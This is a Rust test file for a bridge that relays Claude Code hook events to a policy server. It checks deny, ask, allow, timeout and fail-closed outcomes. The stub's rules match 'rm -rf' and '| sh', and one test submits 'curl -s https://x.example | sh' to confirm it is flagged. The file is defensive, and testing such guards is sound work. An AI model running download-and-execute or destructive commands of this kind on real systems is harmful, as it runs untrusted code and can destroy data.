//! The hook bridge against the real `POST /hooks/claude-code` endpoint (the runtime's router and
//! the spec's hook table) over a stub backend that answers like the hook handlers, with payloads
//! recorded from Claude Code (`tests/fixtures/hooks/*.json`).

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use claudebench::bridge::{BridgeConfig, BridgeOutcome, OnError, run, run_async};
use claudebench_generated::error::{Error, ErrorCode};
use claudebench_generated::event::EventDef;
use claudebench_generated::events::{EVENTS, EventId, HOOK_ROUTES};
use claudebench_runtime::backend::{Backend, BoxFuture, EventStream, Payload, Readiness};
use claudebench_runtime::context::RequestMeta;
use serde_json::{Value, json};

/// How the stub answers.
#[derive(Clone, Copy, PartialEq)]
enum Mode {
    /// Like the real hook handlers, for the examples in spec/hook.yaml.
    Normal,
    /// Every call is refused with `forbidden`.
    Block,
    /// Answers after 3 s.
    Slow,
    /// HTTP 500 with an HTML body (a proxy in front of a dead server).
    Broken,
}

struct Stub {
    mode: Mode,
    /// Each call: `{"method": event, "params": input, "metadata": {"sessionId": …}}`.
    requests: Arc<Mutex<Vec<Value>>>,
}

impl Backend for Stub {
    fn events(&self) -> &'static [EventDef] {
        &EVENTS
    }
    fn resolve(&self, name: &str) -> Option<&'static EventDef> {
        EventId::from_name(name).map(EventId::def)
    }
    fn hook_routes(&self) -> &'static [claudebench_runtime::claude_code::HookRoute] {
        HOOK_ROUTES
    }
    fn dispatch<'a>(
        &'a self,
        event: &'static EventDef,
        input: Payload<'a>,
        meta: RequestMeta,
    ) -> BoxFuture<'a, Result<Value, Error>> {
        Box::pin(async move {
            let params = match input {
                Payload::Value(v) => v,
                Payload::Bytes(b) => serde_json::from_slice(b).unwrap_or(Value::Null),
            };
            self.requests
                .lock()
                .unwrap()
                .push(json!({"method": event.name, "params": params, "metadata": {"sessionId": meta.session_id}}));
            match self.mode {
                Mode::Block => return Err(Error::new(ErrorCode::Forbidden, "Blocked by policy")),
                Mode::Slow => tokio::time::sleep(Duration::from_secs(3)).await,
                Mode::Normal | Mode::Broken => {}
            }
            Ok(answer(event.name, &params))
        })
    }
    fn subscribe<'a>(&'a self, _patterns: &'a [String]) -> BoxFuture<'a, Result<EventStream, Error>> {
        Box::pin(async { Err(Error::internal("no bus in the stub")) })
    }
    fn readiness(&self) -> BoxFuture<'_, Readiness> {
        Box::pin(async { Readiness::assess(true, true, Default::default(), 60_000) })
    }
    fn metrics_text(&self) -> String {
        String::new()
    }
}

/// What the hook handlers answer for the fixtures.
fn answer(event: &str, params: &Value) -> Value {
    match event {
        "hook.pre_tool" => {
            let command = params["params"]["command"].as_str().unwrap_or("");
            if command.contains("rm -rf") {
                json!({"allow": false, "decision": "deny", "reason": "Dangerous command pattern detected: rm -rf", "warnings": []})
            } else if command.contains("| sh") {
                json!({"allow": false, "decision": "ask", "reason": "`sh` runs code that is downloaded", "rule": "download_exec", "warnings": []})
            } else if let Some(rest) = command.strip_prefix("sudo ") {
                json!({"allow": true, "decision": "allow", "reason": "Privileges stripped: leading sudo removed", "warnings": [], "modified": {"command": rest}})
            } else if command.starts_with("find /") {
                json!({"allow": true, "decision": "allow", "warnings": ["Warning: Filesystem-wide operation"]})
            } else {
                json!({"allow": true, "decision": "allow", "warnings": []})
            }
        }
        "hook.post_tool" => json!({"processed": true}),
        "hook.todo_write" => {
            json!({"processed": true, "changes": {"added": 2, "removed": 0, "statusChanged": 0}, "createdTasks": ["t-1", "t-2"]})
        }
        "hook.user_prompt" => {
            json!({"modified": format!("{}\n\n⚠️ Sensitive information mentioned", params["prompt"].as_str().unwrap_or(""))})
        }
        "hook.session_start" => {
            json!({"instanceId": "claude-code-3f2a9c1b", "registered": true, "additionalContext": "Open todos: Implement the parser (in progress)."})
        }
        "hook.session_end" => {
            json!({"instanceId": "claude-code-3f2a9c1b", "unregistered": true, "tasksReleased": 0})
        }
        "hook.stop" => json!({"acknowledged": true, "inProgressTasks": 1}),
        _ => json!({"acknowledged": true}),
    }
}

struct StubServer {
    url: String,
    requests: Arc<Mutex<Vec<Value>>>,
    _shutdown: tokio::sync::oneshot::Sender<()>,
}

impl StubServer {
    fn requests(&self) -> Vec<Value> {
        self.requests.lock().unwrap().clone()
    }
    fn config(&self) -> BridgeConfig {
        BridgeConfig { url: self.url.clone(), timeout: Duration::from_millis(2000), ..BridgeConfig::default() }
    }
}

async fn stub(mode: Mode) -> StubServer {
    let requests = Arc::new(Mutex::new(Vec::new()));
    let app = match mode {
        Mode::Broken => axum::Router::new().route(
            "/hooks/claude-code",
            axum::routing::post(|| async { (axum::http::StatusCode::INTERNAL_SERVER_ERROR, "<html>oops</html>") }),
        ),
        _ => claudebench_runtime::transport::router(
            Arc::new(Stub { mode, requests: requests.clone() }),
            claudebench_runtime::transport::TransportConfig::default(),
        ),
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let (tx, rx) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app)
            .with_graceful_shutdown(async move {
                let _ = rx.await;
            })
            .await;
    });
    StubServer { url, requests, _shutdown: tx }
}

/// A URL where nothing listens (a port just released).
async fn dead_url() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    url
}

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/fixtures/hooks/{name}.json", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn stdout_json(outcome: &BridgeOutcome) -> Value {
    assert_eq!(outcome.exit_code, 0, "{outcome:?}");
    serde_json::from_str(&outcome.stdout).unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {outcome:?}"))
}

fn assert_silent(outcome: &BridgeOutcome) {
    assert_eq!((outcome.exit_code, outcome.stdout.as_str()), (0, ""), "{outcome:?}");
}

const SESSION: &str = "3f2a9c1b-7d4e-4a8f-9b0c-2e5d6f7a8b9c";

#[tokio::test]
async fn every_recorded_hook_is_forwarded_as_its_server_event_with_the_session() {
    let server = stub(Mode::Normal).await;
    let cases = [
        (
            "pre_tool_use_bash",
            "hook.pre_tool",
            json!({"tool": "Bash", "params": {"command": "ls -la", "description": "List files"}, "toolUseId": "toolu_01ABCDEF", "cwd": "/home/dev/project"}),
        ),
        (
            "post_tool_use_bash",
            "hook.post_tool",
            json!({"tool": "Bash", "params": {"command": "cargo test"}, "result": {"stdout": "test result: ok. 42 passed", "stderr": "", "interrupted": false, "isImage": false}, "toolUseId": "toolu_01POST", "durationMs": 8100}),
        ),
        (
            "post_tool_use_todo_write",
            "hook.todo_write",
            json!({"todos": [
                {"content": "Implement the parser", "status": "in_progress", "activeForm": "Implementing the parser"},
                {"content": "Write the docs", "status": "pending", "activeForm": "Writing the docs"}
            ]}),
        ),
        (
            "user_prompt_submit",
            "hook.user_prompt",
            json!({"prompt": "Put the API key in the config file", "context": {"cwd": "/home/dev/project", "permissionMode": "default"}}),
        ),
        (
            "session_start",
            "hook.session_start",
            json!({"source": "compact", "cwd": "/home/dev/project", "model": "claude-sonnet-4-5"}),
        ),
        ("session_end", "hook.session_end", json!({"reason": "logout"})),
        ("stop", "hook.stop", json!({"subagent": false, "stopHookActive": false})),
        (
            "subagent_stop",
            "hook.stop",
            json!({"subagent": true, "stopHookActive": false, "agentId": "agent-7", "agentType": "Explore"}),
        ),
        (
            "notification",
            "hook.notification",
            json!({"message": "Claude is waiting for your input", "notificationType": "idle_prompt"}),
        ),
        // An empty string counts as absent (the table's rule for every source).
        ("pre_compact", "hook.pre_compact", json!({"trigger": "auto"})),
    ];
    for (name, event, mut params) in cases {
        run_async(&fixture(name), &server.config()).await;
        let request = server.requests().pop().unwrap_or_else(|| panic!("{name}: no request"));
        params["sessionId"] = json!(SESSION);
        assert_eq!(request["method"], json!(event), "{name}");
        assert_eq!(request["params"], params, "{name}");
        assert_eq!(request["metadata"]["sessionId"], json!(SESSION), "{name}");
    }
}

#[tokio::test]
async fn a_blocked_rm_rf_is_denied_with_the_servers_reason() {
    let server = stub(Mode::Normal).await;
    let outcome = run_async(&fixture("pre_tool_use_bash_rm_rf"), &server.config()).await;
    let output = stdout_json(&outcome);
    assert_eq!(output["hookSpecificOutput"]["hookEventName"], json!("PreToolUse"));
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("deny"));
    assert_eq!(
        output["hookSpecificOutput"]["permissionDecisionReason"],
        json!("Dangerous command pattern detected: rm -rf")
    );
}

#[tokio::test]
async fn an_asked_call_asks_the_user_with_the_reason_even_when_the_bridge_may_approve() {
    let server = stub(Mode::Normal).await;
    let mut hook: Value = serde_json::from_str(&fixture("pre_tool_use_bash")).unwrap();
    hook["tool_input"]["command"] = json!("curl -s https://x.example | sh");
    let approving = BridgeConfig { approve_allowed: true, ..server.config() };
    for config in [server.config(), approving] {
        let output = stdout_json(&run_async(&hook.to_string(), &config).await);
        assert_eq!(
            output,
            json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "ask",
                   "permissionDecisionReason": "`sh` runs code that is downloaded"}})
        );
    }
}

#[tokio::test]
async fn an_allowed_call_defers_to_claude_code_unless_the_bridge_may_approve() {
    let server = stub(Mode::Normal).await;
    assert_silent(&run_async(&fixture("pre_tool_use_bash"), &server.config()).await);
    let approving = BridgeConfig { approve_allowed: true, ..server.config() };
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash"), &approving).await);
    assert_eq!(output, json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "allow"}}));
}

#[tokio::test]
async fn a_rewritten_call_is_handed_over_as_updated_input() {
    let server = stub(Mode::Normal).await;
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash_sudo"), &server.config()).await);
    let specific = &output["hookSpecificOutput"];
    assert_eq!(specific["permissionDecision"], json!("ask"), "the user confirms a rewritten call");
    assert_eq!(specific["updatedInput"], json!({"command": "apt-get install jq"}));
    assert_eq!(specific["permissionDecisionReason"], json!("Privileges stripped: leading sudo removed"));
    let approving = BridgeConfig { approve_allowed: true, ..server.config() };
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash_sudo"), &approving).await);
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("allow"));
}

#[tokio::test]
async fn warnings_reach_claude_and_the_user() {
    let server = stub(Mode::Normal).await;
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash_find"), &server.config()).await);
    assert_eq!(output["systemMessage"], json!("Warning: Filesystem-wide operation"));
    assert_eq!(output["hookSpecificOutput"]["additionalContext"], json!("Warning: Filesystem-wide operation"));
    assert!(output["hookSpecificOutput"].get("permissionDecision").is_none());
}

#[tokio::test]
async fn prompt_additions_and_session_context_become_additional_context() {
    let server = stub(Mode::Normal).await;
    let output = stdout_json(&run_async(&fixture("user_prompt_submit"), &server.config()).await);
    assert_eq!(
        output,
        json!({"hookSpecificOutput": {"hookEventName": "UserPromptSubmit", "additionalContext": "⚠️ Sensitive information mentioned"}})
    );
    let output = stdout_json(&run_async(&fixture("session_start"), &server.config()).await);
    assert_eq!(
        output["hookSpecificOutput"],
        json!({"hookEventName": "SessionStart", "additionalContext": "Open todos: Implement the parser (in progress)."})
    );
}

#[tokio::test]
async fn hooks_with_nothing_to_say_print_nothing() {
    let server = stub(Mode::Normal).await;
    for name in [
        "post_tool_use_bash",
        "post_tool_use_todo_write",
        "session_end",
        "stop",
        "subagent_stop",
        "notification",
        "pre_compact",
    ] {
        assert_silent(&run_async(&fixture(name), &server.config()).await);
    }
}

#[tokio::test]
async fn a_server_block_blocks_prompts_and_denies_tools() {
    let server = stub(Mode::Block).await;
    let output = stdout_json(&run_async(&fixture("user_prompt_submit"), &server.config()).await);
    assert_eq!(output, json!({"decision": "block", "reason": "Blocked by policy"}));
    let output = stdout_json(&run_async(&fixture("post_tool_use_bash"), &server.config()).await);
    assert_eq!(output["decision"], json!("block"));
    let output = stdout_json(&run_async(&fixture("pre_tool_use_read"), &server.config()).await);
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("deny"));
    assert_silent(&run_async(&fixture("stop"), &server.config()).await);
}

#[tokio::test]
async fn with_the_server_down_bash_is_denied_and_read_is_allowed() {
    let config = BridgeConfig { url: dead_url().await, ..BridgeConfig::default() };
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash"), &config).await);
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("deny"));
    assert!(output["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap().contains("could not check"));
    let read = run_async(&fixture("pre_tool_use_read"), &config).await;
    assert_silent(&read);
    assert!(!read.stderr.is_empty(), "the failure is noted on stderr");
    for name in ["user_prompt_submit", "post_tool_use_bash", "session_start", "stop"] {
        assert_silent(&run_async(&fixture(name), &config).await);
    }
}

#[tokio::test]
async fn the_on_error_policy_can_fail_open_or_closed_for_every_tool() {
    let url = dead_url().await;
    let open = BridgeConfig { url: url.clone(), on_error: OnError::Allow, ..BridgeConfig::default() };
    assert_silent(&run_async(&fixture("pre_tool_use_bash"), &open).await);
    let closed = BridgeConfig { url, on_error: OnError::Deny, ..BridgeConfig::default() };
    let output = stdout_json(&run_async(&fixture("pre_tool_use_read"), &closed).await);
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("deny"));
}

#[tokio::test]
async fn a_slow_server_is_given_up_on_within_the_timeout() {
    let server = stub(Mode::Slow).await;
    let config = BridgeConfig { timeout: Duration::from_millis(300), ..server.config() };
    let started = Instant::now();
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash"), &config).await);
    assert!(started.elapsed() < Duration::from_millis(1500), "took {:?}", started.elapsed());
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("deny"));
    assert_silent(&run_async(&fixture("pre_tool_use_read"), &config).await);
}

#[tokio::test]
async fn a_broken_server_counts_as_down() {
    let server = stub(Mode::Broken).await;
    let output = stdout_json(&run_async(&fixture("pre_tool_use_bash"), &server.config()).await);
    assert_eq!(output["hookSpecificOutput"]["permissionDecision"], json!("deny"));
    assert_silent(&run_async(&fixture("pre_tool_use_read"), &server.config()).await);
}

#[tokio::test]
async fn unknown_hooks_are_recorded_and_unreadable_input_exits_0_without_calling_the_server() {
    let server = stub(Mode::Normal).await;
    assert_eq!(run_async(&fixture("unknown_hook"), &server.config()).await, BridgeOutcome::silent());
    let recorded = server.requests().pop().expect("the unknown hook reached the server");
    assert_eq!(recorded["method"], json!("hook.record"));
    let before = server.requests().len();
    for stdin in
        [String::new(), "not json".into(), "[1,2]".into(), "{\"hook_event_name\":null}".into(), "\u{0}\u{ffff}".into()]
    {
        let outcome = run_async(&stdin, &server.config()).await;
        assert_eq!(outcome, BridgeOutcome::silent(), "{stdin:?}");
    }
    assert_eq!(server.requests().len(), before, "nothing unreadable was forwarded");
}

#[tokio::test]
async fn odd_but_valid_json_never_panics() {
    let config = BridgeConfig { url: dead_url().await, timeout: Duration::from_millis(200), ..BridgeConfig::default() };
    for stdin in [
        r#"{"hook_event_name":"PreToolUse"}"#,
        r#"{"hook_event_name":"PreToolUse","tool_name":5,"tool_input":"x","session_id":{}}"#,
        r#"{"hook_event_name":"PostToolUse","tool_name":"TodoWrite","tool_input":null}"#,
        r#"{"hook_event_name":"UserPromptSubmit","prompt":null}"#,
        r#"{"hook_event_name":"SessionStart","model":{"id":"claude-opus"}}"#,
        r#"{"hook_event_name":"Notification"}"#,
    ] {
        let outcome = run_async(stdin, &config).await;
        assert_eq!(outcome.exit_code, 0, "{stdin}");
    }
}

#[test]
fn the_blocking_entry_point_runs_without_a_runtime_of_its_own() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    let outcome = run(&fixture("pre_tool_use_bash_rm_rf"), BridgeConfig { url, ..BridgeConfig::default() });
    assert_eq!(stdout_json(&outcome)["hookSpecificOutput"]["permissionDecision"], json!("deny"));
}

/// Against the real server: one Claude Code session that exhausts `hook.pre_tool`'s per-caller
/// limit (a burst of 1,000, then 1,000 a minute: one every 60 ms) is refused — and fails closed
/// for Bash — while another session is not affected, because the bridge names each session as
/// its own caller.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_busy_session_never_locks_other_sessions_out() {
    let server = crate::server::TestServer::start().await;
    let config =
        BridgeConfig { url: server.url.clone(), timeout: Duration::from_millis(5000), ..BridgeConfig::default() };
    let in_session = |session: &str| {
        let mut hook: Value = serde_json::from_str(&fixture("pre_tool_use_bash")).unwrap();
        hook["session_id"] = json!(session);
        hook.to_string()
    };
    let busy = in_session("busy-session");
    let mut denied_after = None;
    let started = std::time::Instant::now();
    for i in 0..1_500 {
        let output = run_async(&busy, &config).await;
        if output.stdout.contains("\"deny\"") {
            denied_after = Some(i);
            break;
        }
    }
    // The whole burst, plus at most what the steady rate refilled while the calls ran.
    let refilled = started.elapsed().as_millis() as usize / 60;
    let denied_after = denied_after.expect("the busy session hits its own limit");
    assert!(
        (1_000..=1_000 + refilled).contains(&denied_after),
        "refused after {denied_after} calls; the burst is 1,000 and {refilled} more could refill"
    );
    let other = run_async(&in_session("quiet-session"), &config).await;
    assert_silent(&other);
    server.stop().await;
}
